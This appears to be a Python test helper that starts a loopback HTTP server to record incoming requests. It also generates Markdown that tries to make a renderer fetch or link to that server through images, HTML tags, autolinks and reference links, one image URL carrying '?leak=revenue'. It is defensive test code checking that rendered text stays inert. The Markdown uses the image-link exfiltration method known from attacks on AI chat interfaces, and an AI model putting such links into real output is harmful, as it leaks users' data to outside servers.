"""A sink on loopback: an HTTP server that records every request made to it.

Hostile text in the tests points images, links and scripts at it; a page that is inert leaves it
untouched. It answers everything with a 1x1 PNG, so a fetched image would also "work".
"""

from __future__ import annotations

import base64
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)


class Sink:
    def __init__(self) -> None:
        self.hits: list[str] = []
        sink = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                sink.hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PNG)))
                self.end_headers()
                self.wfile.write(PNG)

            do_GET = do_POST = do_HEAD = _answer  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Sink:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


def hostile_markdown(url: str) -> str:
    """Every way Markdown (GFM, Streamlit's flavour) could make text fetch or link to ``url``."""
    host = url.split("//", 1)[1]
    return (
        f"Revenue grew. ![chart]({url}/md-image.png?leak=revenue) and "
        f'<img src="{url}/html-image.png"> and <a href="{url}/html-link">html link</a>, '
        f"[a link]({url}/md-link), [ref link][r], <{url}/autolink>, bare {url}/bare-url, "
        f"www.{host}/www-link and mail ceo@sink.example.com. "
        f"Math $x^2$ and :red[directive] :material/home:.\n\n[r]: {url}/ref-link\n\n"
        f"![]({url}/second-image.png)\n"
    )
